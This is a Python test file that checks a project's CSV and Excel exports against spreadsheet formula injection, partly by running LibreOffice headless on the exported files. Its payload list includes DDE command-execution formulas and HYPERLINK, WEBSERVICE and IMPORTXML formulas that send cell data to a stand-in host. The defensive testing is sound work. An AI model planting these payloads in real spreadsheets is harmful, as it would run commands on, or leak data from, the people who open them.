"""Sheets of ours in a real spreadsheet program: whatever people have typed, no cell of them computes anything."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from flows.exports.writing import csv_bytes, guarded, xlsx_bytes
from flows.imports.cells import clean

OFFICE = shutil.which("soffice")
FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    '"=1+1"',
    '"\n=1+1',
    "a\n=1+1",
    "a\r\n=1+1",
    "a;=1+1;b",
    "a\t=1+1\tb",
    "a,=1+1,b",
    "a|=1+1|b",
    "'=1+1",
    "''=1+1",
    '=HYPERLINK("https://evil.example/?x="&A1,"press")',
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/","//a")',
    '=DDE("cmd";"/c calc";"1")',
    "%0A=1+1",
    "<table><tr><td>=1+1</td></tr></table>",
    "{=1+1}",
)
ROWS = [("Name", "Words", "More"), *((formula, f"before {formula}", "plain") for formula in FORMULAS)]
SEPARATORS = {"comma": "44,34,76", "semicolon": "59,34,76", "tab": "9,34,76", "any": "44/59/9,34,76"}
"""How people's programs are set up: a file with commas is opened with semicolons in half of Europe."""


def _starts(cell: str) -> bool:
    """What some spreadsheet would compute."""
    return cell.lstrip(" \u00a0\u3000\ufeff\u200b\t\r\n")[:1] in {*"=+-@", *"＝＋－＠"}


def test_no_cell_that_is_written_starts_as_a_formula() -> None:
    for separator in ",;\t":
        text = csv_bytes(ROWS).decode("utf-8-sig").replace("\r", "\n")
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert [cell for cell in row if _starts(cell)] == [], separator


def test_a_workbook_holds_words_alone_and_its_head_stays_in_sight() -> None:
    from openpyxl import load_workbook

    rows = [*ROWS, ("a\x00b\x0bc", "x" * 40_000, "=" * 40_000)]
    [sheet] = load_workbook(io.BytesIO(xlsx_bytes(rows, "A title that is longer than thirty-one"))).worksheets
    assert (sheet.title, sheet.freeze_panes) == ("A title that is longer than thi", "A2")
    cells = [[cell for cell in row] for row in sheet.iter_rows()]
    assert {cell.data_type for row in cells for cell in row} == {"s"}
    assert [cell.value for cell in cells[0]] == ["Name", "Words", "More"]
    assert [cell.value for row in cells for cell in row if _starts(cell.value)] == []
    assert [len(cell.value) for cell in cells[-1]] == [3, 32_767, 32_767]
    assert [row[2].value for row in cells[1:-1]] == ["plain"] * len(FORMULAS)


def test_a_csv_is_text_that_spreadsheets_know_as_such() -> None:
    content = csv_bytes([("名称", "a\0b", "\ud83d", 'say "x"'), ("-1", "1", "", "a,b")])
    assert content == b"\xef\xbb\xbf" + '名称,ab,?,"say ""x"""\r\n\'-1,1,,"a,b"\r\n'.encode()


ODD = ("x;'=1", "x;' =1", "\n '=1", "a\n\n=1", "it's; 'so'", "'tis", "-5%", "a;-b\n- c")


@pytest.mark.parametrize("words", [*FORMULAS, *ODD])
def test_what_we_mark_comes_in_again_as_it_was(words: str) -> None:
    assert clean(guarded(words), literal=True) == clean(words.replace("'", "\ue000"), literal=True).replace(
        "\ue000", "'"
    )


def test_the_check_sees_a_formula() -> None:
    assert all(_starts(formula) for formula in FORMULAS[:17])


@pytest.mark.skipif(OFFICE is None, reason="LEFT OUT: there is no LibreOffice here (apt install libreoffice-calc)")
@pytest.mark.slow
@pytest.mark.parametrize("separator", SEPARATORS)
def test_libreoffice_computes_nothing_in_a_csv(tmp_path: Path, separator: str) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes(csv_bytes(ROWS))
    assert _computed(path, f"--infilter=CSV:{SEPARATORS[separator]}") == []


@pytest.mark.skipif(OFFICE is None, reason="LEFT OUT: there is no LibreOffice here (apt install libreoffice-calc)")
@pytest.mark.slow
def test_libreoffice_computes_nothing_in_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    path.write_bytes(xlsx_bytes(ROWS, "Export"))
    assert _computed(path) == []


@pytest.mark.skipif(OFFICE is None, reason="LEFT OUT: there is no LibreOffice here (apt install libreoffice-calc)")
@pytest.mark.slow
def test_libreoffice_would_compute_what_is_not_guarded(tmp_path: Path) -> None:
    path = tmp_path / "raw.csv"
    path.write_text("=1+1,plain\n")
    assert _computed(path, "--infilter=CSV:44,34,76") != []


def _computed(path: Path, *options: str) -> list[str]:
    """The formulas that the program found in the file."""
    assert OFFICE is not None
    home = f"-env:UserInstallation=file://{path.parent / 'profile'}"
    out = path.parent / "out"
    done = [
        OFFICE,
        home,
        "--headless",
        "--norestore",
        *options,
        "--convert-to",
        "fods",
        "--outdir",
        str(out),
        str(path),
    ]
    subprocess.run(done, check=True, capture_output=True, timeout=300)
    return re.findall(r'table:formula="([^"]*)"', (out / path.with_suffix(".fods").name).read_text("utf-8"))
